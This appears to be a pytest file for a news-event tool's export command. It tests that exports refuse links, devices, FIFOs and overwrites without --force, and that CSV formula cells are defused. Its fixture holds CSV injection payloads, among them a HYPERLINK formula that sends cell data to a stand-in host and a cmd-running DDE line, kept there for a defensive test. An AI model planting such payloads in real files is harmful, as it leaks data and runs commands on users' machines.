"""`tacitus export --out`: never written through a link or onto a device or FIFO, never over an
existing file without --force, complete or absent; CSV cells a spreadsheet would run are defused."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from store_records import ROOT, article, event, invoke_tacitus
from tacitus.records import Span
from tacitus.store import Store, StoredArticle

# The payloads and OWASP's list: = + - @ tab CR.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
MULTILINE = 'First line of the evidence,\nsecond line with "quotes"'
PLAIN = [MULTILINE, "An ordinary sentence."]


def _export(capsys, db: Path, out: Path | str, *args: str) -> tuple[int, str, str]:
    return invoke_tacitus(
        capsys,
        "export",
        "--db",
        str(db),
        "--format",
        "csv",
        "--min-confidence",
        "0",
        "--out",
        str(out),
        *args,
    )


@pytest.fixture(scope="module")
def store_path(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("targets") / "news.duckdb"
    events = [
        dataclasses.replace(event("a1", "CHN", "RUS", "036", sentence=n), evidence=Span(text, 0, len(text)))
        for n, text in enumerate([*FORMULAS, *PLAIN])
    ]
    with Store.open(path) as store:
        store.write([StoredArticle(article("a1"), events=events)])
    return path


@pytest.fixture
def victim(tmp_path) -> Path:
    path = tmp_path / "victim.txt"
    path.write_text("precious\n")
    return path


def _error(err: str) -> str:
    (line,) = err.splitlines()
    return line


def test_export_targets_symlink_is_refused_and_its_target_kept(capsys, tmp_path, store_path, victim):
    link = tmp_path / "events.csv"
    link.symlink_to(victim)
    code, _, err = _export(capsys, store_path, link, "--force")
    assert code == 1
    assert _error(err) == (
        f"Error: [E045] {link} is a symbolic link - Tacitus does not write through "
        "links: give the path of the file itself"
    )
    assert link.is_symlink() and os.readlink(link) == str(victim)
    assert victim.read_text() == "precious\n"


def test_export_targets_planted_partial_link_is_never_followed(capsys, tmp_path, store_path, victim):
    """A `.NAME.partial` link planted beside the target used to be written through."""
    out = tmp_path / "events.csv"
    planted = tmp_path / ".events.csv.partial"
    planted.symlink_to(victim)
    code, _, err = _export(capsys, store_path, out)
    assert code == 0, err
    assert victim.read_text() == "precious\n"
    assert planted.is_symlink()
    assert out.read_text().startswith("doc_id,")
    assert sorted(p.name for p in tmp_path.iterdir()) == [".events.csv.partial", "events.csv", "victim.txt"]


def _device(path: Path) -> Path:
    """A character device node where we may make one (root); else /dev/null itself, which a
    non-root export could not replace anyway (its folder is not writable)."""
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        return Path("/dev/null")
    return path


@pytest.mark.parametrize(
    ("kind", "make"),
    [
        ("a FIFO (named pipe)", lambda path: os.mkfifo(path) or path),
        ("a character device", _device),
        ("a folder", lambda path: path.mkdir() or path),
    ],
)
def test_export_targets_non_regular_file_is_refused(capsys, tmp_path, store_path, kind, make):
    target = make(tmp_path / "target")
    mode = os.lstat(target).st_mode
    code, _, err = _export(capsys, store_path, target, "--force")
    assert code == 1
    assert _error(err) == (
        f"Error: [E045] {target} is {kind}, not a file - give the path of a file "
        "to write, or --out - for stdout"
    )
    assert os.lstat(target).st_mode == mode
    assert [p.name for p in tmp_path.iterdir()] == ["target"]


def test_export_targets_existing_file_needs_force(capsys, tmp_path, store_path, victim):
    code, _, err = _export(capsys, store_path, victim)
    assert code == 1
    assert _error(err) == (
        f"Error: [E045] {victim} exists - pass --force to replace it, or choose another --out"
    )
    assert victim.read_text() == "precious\n"
    code, _, err = _export(capsys, store_path, victim, "--force")
    assert code == 0 and victim.read_text().startswith("doc_id,")
    assert [p.name for p in tmp_path.iterdir()] == ["victim.txt"]


def _unwritable(folder: Path) -> bool:
    try:
        os.close(os.open(folder / ".probe", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
    except OSError:
        return True
    (folder / ".probe").unlink()
    return False


def test_export_targets_unwritable_folder_is_one_line(capsys, tmp_path, store_path):
    folder = tmp_path / "locked"
    folder.mkdir(mode=0o555)
    if not _unwritable(folder):  # root writes in mode-555 folders, not in sysfs
        folder = Path("/sys")
        if not folder.is_dir() or not _unwritable(folder):
            pytest.skip("no folder this user cannot write in (root without a read-only /sys)")
    code, _, err = _export(capsys, store_path, folder / "events.csv")
    assert code == 1
    assert _error(err) == (
        f"Error: [E045] writing {folder / 'events.csv'} failed: Permission denied - "
        f"choose a folder you can write to (not {folder}); {folder / 'events.csv'} "
        "was not created and nothing else was changed"
    )


def _read(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    column = rows[0].index("evidence_text")
    return [row[column] for row in rows[1:]]


def test_export_targets_csv_formulas_are_defused(capsys, tmp_path, store_path):
    code, _, err = _export(capsys, store_path, tmp_path / "events.csv")
    assert code == 0, err
    cells = _cells(_read(tmp_path / "events.csv"))
    assert sorted(cells) == sorted(["'" + formula for formula in FORMULAS] + PLAIN)


def test_export_targets_keep_formulas_writes_cells_as_they_are(capsys, tmp_path, store_path):
    code, _, err = _export(capsys, store_path, tmp_path / "events.csv", "--keep-formulas")
    assert code == 0, err
    cells = _cells(_read(tmp_path / "events.csv"))
    assert sorted(cells) == sorted([*FORMULAS, *PLAIN])


@pytest.mark.parametrize("flags", [[], ["--keep-formulas"]])
def test_export_targets_events_csv_defuses_formulas_too(store_path, flags):
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "tacitus.cli",
            "events",
            "--db",
            str(store_path),
            "--format",
            "csv",
            "--min-confidence",
            "0",
            *flags,
        ],
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        capture_output=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    out = result.stdout.decode()  # bytes as written: a text-mode capture would turn CR into LF
    defused = "'" if not flags else ""
    assert sorted(_cells(out)) == sorted([defused + f for f in FORMULAS] + PLAIN)


@pytest.mark.parametrize("fmt", ["csv", "parquet", "gdelt", "plover", "quotes"])
def test_export_targets_dash_writes_to_stdout(tmp_path, store_path, fmt):
    """`--out -` through a pipe (not a file: parquet must not need to seek)."""
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "tacitus.cli",
            "export",
            "--db",
            str(store_path),
            "--format",
            fmt,
            "--min-confidence",
            "0",
            "--out",
            "-",
        ],
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        capture_output=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert result.stderr.decode().startswith("wrote ") and result.stderr.decode().endswith("to stdout\n")
    if fmt == "parquet":
        path = tmp_path / "piped.parquet"
        path.write_bytes(result.stdout)
        assert pq.read_table(path).num_rows == len(FORMULAS) + 2
    elif fmt == "csv":
        assert len(_cells(result.stdout.decode())) == len(FORMULAS) + 2
        assert result.stdout.count(b"\r") == 1  # the one CR of the payloads, inside quotes
